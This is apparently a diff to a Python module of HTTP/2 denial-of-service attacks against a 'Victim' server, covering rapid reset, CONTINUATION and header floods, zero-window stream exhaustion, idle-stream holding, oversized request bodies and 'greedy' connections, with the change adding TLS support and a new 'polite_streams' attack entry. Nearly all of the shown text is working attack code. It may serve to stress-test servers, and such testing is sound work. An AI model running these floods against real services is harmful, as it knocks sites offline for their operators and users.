@@ -32,6 +32,11 @@ class Victim:
     address: str
     metadata: Metadata
     seconds: float
+    tls: bool = False
+
+    def connect(self, window: int | None = None) -> RawConnection:
+        """Open a connection."""
+        return RawConnection(self.address, window=window, tls=self.tls)
 
     def block(self, path: str) -> bytes:
         """Return the headers of a call."""
@@ -55,7 +60,7 @@ def rapid_reset(target: Victim) -> None:
     block = target.block(QUOTE)
     per_turn = 300
     until, stream = time.monotonic() + target.seconds, 1
-    connection = RawConnection(target.address)
+    connection = target.connect()
     while time.monotonic() < until:
         frames = [
             wire.frame(wire.HEADERS, wire.END_HEADERS, number, block)
@@ -66,7 +71,7 @@ def rapid_reset(target: Victim) -> None:
         connection.drain()
         if not connection.send(b"".join(frames)):
             connection.close()
-            connection, stream = RawConnection(target.address), 1
+            connection, stream = target.connect(), 1
         time.sleep(0.02)
     connection.close()
 
@@ -78,7 +83,7 @@ def bursts(path: str, payload: bytes = CHUZHOU, size: int = 1000) -> Attack:
         block = target.block(path)
         until = time.monotonic() + target.seconds
         while time.monotonic() < until:
-            with RawConnection(target.address) as connection:
+            with target.connect() as connection:
                 sent = [_request(block, number, payload) for number in _ids(size)]
                 grown = wire.frame(wire.WINDOW_UPDATE, 0, 0, (2**30).to_bytes(4))
                 connection.send(grown + b"".join(sent))
@@ -96,7 +101,7 @@ def untaken(target: Victim) -> None:
     until = time.monotonic() + target.seconds
     with ExitStack() as stack:
         while time.monotonic() < until:
-            connection = RawConnection(target.address, window=0)
+            connection = target.connect(window=0)
             stack.enter_context(connection)
             for number in _ids(10_000):
                 if time.monotonic() > until or not connection.send(
@@ -113,9 +118,7 @@ def idle(path: str, count: int, first: bytes = b"") -> Attack:
     def attack(target: Victim) -> None:
         block = target.block(path)
         with ExitStack() as stack:
-            connections = [
-                stack.enter_context(RawConnection(target.address)) for _ in range(16)
-            ]
+            connections = [stack.enter_context(target.connect()) for _ in range(16)]
             for connection in connections:
                 for number in _ids(count // 16):
                     head = wire.frame(wire.HEADERS, wire.END_HEADERS, number, block)
@@ -142,11 +145,11 @@ def huge(payload: bytes, path: str = TOTALS) -> Attack:
     def attack(target: Victim) -> None:
         block = target.block(path)
         until = time.monotonic() + target.seconds
-        connection, stream = RawConnection(target.address), 1
+        connection, stream = target.connect(), 1
         while time.monotonic() < until:
             if not connection.send(_request(block, stream, payload)) or stream > 400:
                 connection.close()
-                connection, stream = RawConnection(target.address), -1
+                connection, stream = target.connect(), -1
             stream += 2
             connection.drain()
         connection.close()
@@ -159,7 +162,7 @@ def cancelled(target: Victim) -> None:
     block = target.block(QUOTE)
     until = time.monotonic() + target.seconds
     while time.monotonic() < until:
-        with RawConnection(target.address) as connection:
+        with target.connect() as connection:
             sent = [_request(block, number, b"") for number in _ids(13_000)]
             connection.send(b"".join(sent))
 
@@ -183,13 +186,13 @@ def continuations(target: Victim) -> None:
 
 def _flood(target: Victim, piece: bytes, first: bytes = b"") -> None:
     until = time.monotonic() + target.seconds
-    connection = RawConnection(target.address)
+    connection = target.connect()
     connection.send(first)
     while time.monotonic() < until:
         connection.drain()
         if not connection.send(piece):
             connection.close()
-            connection = RawConnection(target.address)
+            connection = target.connect()
             connection.send(first)
             time.sleep(0.01)
     connection.close()
@@ -238,7 +241,7 @@ class GreedyConnection(RawConnection):
     """A connection that always has so many calls in flight, whatever it is told."""
 
     def __init__(self, target: Victim, calls: int, *, polite: bool = False) -> None:
-        super().__init__(target.address)
+        super().__init__(target.address, tls=target.tls)
         self.socket.settimeout(0.001)
         self._polite = polite
         self._waiting: list[float] = []
@@ -310,4 +313,5 @@ ATTACKS: Final[dict[str, Attack]] = {
     "greedy": in_flight(1500, polite=False),
     "polite": in_flight(1500, polite=True),
     "streams": idle(IMPORT, 4000),
+    "polite_streams": idle(IMPORT, 256),
 }
